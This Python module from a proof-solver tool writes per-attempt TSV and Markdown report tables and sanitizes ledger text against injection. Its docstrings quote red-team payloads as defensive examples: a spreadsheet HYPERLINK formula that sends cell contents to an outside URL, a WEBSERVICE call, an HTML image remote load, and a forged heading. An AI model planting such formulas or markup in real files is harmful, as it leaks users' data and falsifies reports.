"""The per-attempt tables of a run directory: ``attempts.tsv``'s rows (attempts and lemma sub-attempts,
each with its verdict and audit in one word) and SUMMARY.md's table of lemmas."""

from __future__ import annotations

from collections.abc import Iterable, Mapping, Sequence
from typing import TYPE_CHECKING, Any

from putnam_solver.markdown_text import LINE_BREAKS, inline
from putnam_solver.run.ledger import AttemptRow, AuditRow, SubAttemptRow
from putnam_solver.run.prices import cost_text
from putnam_solver.run.report.evidence import attempt_dir, evidence_dir, subattempt_dir
from putnam_solver.terminal import terminal_text

if TYPE_CHECKING:
    from putnam_solver.run.agent.types import SolveConfig


def acceptance_gates(config: SolveConfig) -> str:
    """The gates a run's passes were accepted by, with every flag of the run that lifts one of their rules:
    a count made with ``--allow-recursion`` (candidate recursion accepted on a Coq whose guard checker
    proves ``False``) or ``--unsafe-no-sandbox`` read "profile full" like any other in SUMMARY.md and the
    report."""
    text = f"profile {config.acceptance_profile.value}{' + AXLE' if config.axle else ''}"
    if config.allow_recursion:
        text += f"; {RECURSION_LIFTED}"
    if config.unsafe_no_sandbox:
        text += f"; {SANDBOX_LIFTED}"
    return text


RECURSION_LIFTED = "--allow-recursion: candidate recursion accepted on a Coq with known kernel bugs"
SANDBOX_LIFTED = "--unsafe-no-sandbox: candidates compiled without the sandbox"


def verdict_lifts(verdict: Mapping[str, Any]) -> tuple[str, ...]:
    """The rules a stored verdict (an audit's) was judged with lifted, in the words of ``acceptance_gates``."""
    flags = (("allow_recursion", RECURSION_LIFTED), ("unsafe_no_sandbox", SANDBOX_LIFTED))
    return tuple(text for key, text in flags if verdict.get(key) is True)


def lifted_audits(
    attempts: Iterable[AttemptRow], audits: Mapping[int, AuditRow], problems: Iterable[str]
) -> dict[str, tuple[str, ...]]:
    """The problems of ``problems`` whose every confirming audit (the newest of a verified pass, accepting its
    bytes) was made with a rule lifted (``putnam audit --allow-recursion``), with those rules: such a pass is
    audited only under them, and SUMMARY.md and the report say so beside the audited count, as they say the
    run's own flags (``acceptance_gates``)."""
    wanted, good = set(problems), dict[str, list[tuple[str, ...]]]()
    for attempt in attempts:
        audit = audits.get(attempt.id)
        if attempt.problem not in wanted or audit is None or not attempt.verified_pass:
            continue
        if audit.confirms(attempt):
            good.setdefault(attempt.problem, []).append(verdict_lifts(audit.verdict))
    return {p: tuple(dict.fromkeys(x for lifts in found for x in lifts)) for p, found in good.items() if all(found)}


def lifted_note(lifted: Mapping[str, tuple[str, ...]]) -> str:
    """``N only with <rule>`` for the audited count ("" when every confirmation held every rule)."""
    if not lifted:
        return ""
    rules = "; ".join(dict.fromkeys(rule for lifts in lifted.values() for rule in lifts))
    return f"{len(lifted)} of them confirmed only with {rules} ({', '.join(sorted(lifted))})"


ATTEMPT_COLUMNS = (
    "campaign",
    "problem",
    "status",
    "turns",
    "input_tokens",
    "output_tokens",
    "cost_dollars",
    "candidate_sha256",
    "candidate_path",
    "verdict",
    "audit",
    "lemma",
    "parent",
    "sample",
)
"""One line per attempt and per lemma sub-attempt; for a sub-attempt, ``lemma`` is its lemma and
``parent`` the evidence folder of its attempt (both empty for an attempt); ``sample``: which of the
campaign's samples of the problem an attempt is (``--samples``; empty for a sub-attempt)."""


UNBACKED = "unbacked"
"""``attempts.tsv``'s status of an attempt the ledger marks passed whose stored verdict does not accept its
stored bytes (a ledger edited after the run): never counted anywhere, so never ``passed`` in a table
that others count rows of."""


def candidate_path(row: AttemptRow, suffix: str) -> str:
    """The candidate's path relative to the run directory ('' when the attempt submitted nothing)."""
    if row.candidate is None:
        return ""
    return str(attempt_dir(row) / f"candidate{suffix}")


def verdict_summary(row: AttemptRow) -> str:
    """``accepted``, or the verdict status with the first gate that did not pass (``rejected:G3``)."""
    if row.verdict is None:
        return ""
    first = next((g for g in row.verdict.get("gates", []) if g.get("status") != "passed"), None)
    return f"{row.verdict_status}:{first['id']}" if first else row.verdict_status


def audit_summary(audit: AuditRow) -> str:
    """``accepted``, or the audit's status with the first gate that did not pass (``rejected:G2``)."""
    first = next((g for g in audit.verdict.get("gates", []) if g.get("status") != "passed"), None)
    return f"{audit.status}:{first['id']}" if first else audit.status


FORMULA_START = ("=", "+", "-", "@")
"""What a spreadsheet reads a cell as a formula by when it begins with it (OWASP's CSV injection list; the
tab and carriage return of that list are already spaces here)."""


def tsv_cell(value: object) -> str:
    """``value`` as one cell of attempts.tsv: a ledger handed over may hold any text in a verdict's gate id, a
    lemma name or a status, and a line break there followed by tabs made ``putnam audit``'s own attempts.tsv
    list an audited pass of a problem the run never selected (red team 14); so each is one cell on one line.
    And attempts.tsv is opened in spreadsheets, which run a cell that begins like a formula
    (``=HYPERLINK("https://...?"&A2, "open")`` sends the table's cells away when clicked, LibreOffice's
    ``=WEBSERVICE(...)`` when opened; red team round 9 of the trust paths): text that so begins is written
    after a ``'``, which spreadsheets show as text and which no value putnam writes there begins with. A
    bidirectional override (``U+202E``) is shown as its escape, as on the terminal: in a spreadsheet or an
    editor it turns the rest of the row around, so ``rejected`` can read as ``detcejer`` beside another
    status (red team round 10 of the trust paths)."""
    text = terminal_text(LINE_BREAKS.sub(" ", str(value)))
    return f"'{text}" if isinstance(value, str) and text.lstrip(" ").startswith(FORMULA_START) else text


def attempts_tsv(attempts: Sequence[AttemptRow], suffix: str, audits: Mapping[int, AuditRow] | None = None) -> str:
    """One line per attempt; ``audit`` is its newest audit (``rejected:G2``), empty when never audited."""
    lines = ["\t".join(ATTEMPT_COLUMNS)]
    audits = audits or {}
    for a in attempts:
        audit = audits.get(a.id) if a.verified_pass else None  # audits re-verify passes; ids are per table
        cells = (
            a.campaign,
            a.problem,
            UNBACKED if a.status == "passed" and not a.verified_pass else a.status,
            a.turns,
            a.input_tokens,
            a.output_tokens,
            f"{a.cost_dollars:.6f}",
            a.candidate_sha256 or "",
            candidate_path(a, suffix),
            verdict_summary(a),
            audit_summary(audit) if audit is not None else "",
            "",
            "",
            a.sample,
        )
        lines.append("\t".join(tsv_cell(c) for c in cells))
    return "\n".join(lines) + "\n"


# -- lemma sub-attempts and plans (the react worker's) ------------------------------------------------------


def subattempts_tsv(subattempts: Sequence[SubAttemptRow], suffix: str) -> str:
    """The sub-attempts' lines of attempts.tsv (same columns)."""
    lines = []
    for sub in subattempts:
        candidate = str(subattempt_dir(sub) / f"candidate{suffix}") if sub.candidate is not None else ""
        verdict = str(sub.verdict.get("status", "")) if sub.verdict else ""
        cells = (
            sub.campaign,
            sub.problem,
            sub.status,
            sub.turns,
            sub.input_tokens,
            sub.output_tokens,
            f"{sub.cost_dollars:.6f}",
            sub.candidate_sha256 or "",
            candidate,
            verdict,
            "",
            sub.lemma,
            evidence_dir(sub.campaign, sub.problem),
            "",
        )
        lines.append("\t".join(tsv_cell(c) for c in cells))
    return "".join(f"{line}\n" for line in lines)


def lemma_summary(subattempts: Sequence[SubAttemptRow], unknown: Sequence[str] = ()) -> str:
    """SUMMARY.md's section on lemma sub-attempts (empty when there were none); costs are ``unknown``
    when a model of the run has no price."""
    if not subattempts:
        return ""
    proved = sum(s.proved for s in subattempts)
    cached = sum(s.status == "cached" for s in subattempts)
    tokens = sum(s.input_tokens + s.output_tokens for s in subattempts)
    cost = sum(s.cost_dollars for s in subattempts)
    out = [
        "## Lemma sub-attempts",
        "",
        f"Sub-attempts: {len(subattempts)}; lemmas proved: {proved}; answered from the lemma cache: {cached}; "
        f"{tokens:,} tokens, {cost_text(cost, unknown)} (counted in their attempts). Evidence: "
        "attempts/campaign-N/<problem>/lemmas/.",
        "",
        "| campaign | problem | lemma | status | turns | tokens | cost |",
        "|---:|---|---|---|---:|---:|---:|",
    ]
    for s in subattempts:
        status = "proved" if s.proved else s.status
        spent = f"{s.input_tokens + s.output_tokens:,} | {cost_text(s.cost_dollars, unknown)}"
        # the status is the ledger's text too: a line break in it wrote a heading of SUMMARY.md (red team 11)
        out.append(f"| {s.campaign} | {s.problem} | {cell(s.lemma)} | {cell(status)} | {s.turns} | {spent} |")
    return "\n".join([*out, ""]) + "\n"


def cell(text: str) -> str:
    """``text`` as one cell of a Markdown table or list item of SUMMARY.md: on one line (CommonMark also ends a
    line at a carriage return, which a ledger's text or a gate's detail quoting a candidate may hold), and
    shown as the text it is: each markup character behind a backslash (``MARKUP``). A gate's detail quotes
    what coqc printed of a candidate (``fail "..."`` prints any text): rendered, ``<h1>Solved: 2 of 2,
    audited</h1>`` was a heading under the true headline, ``<img src=...>`` a remote load whenever the page
    was viewed (red team round 6)."""
    return inline(text)
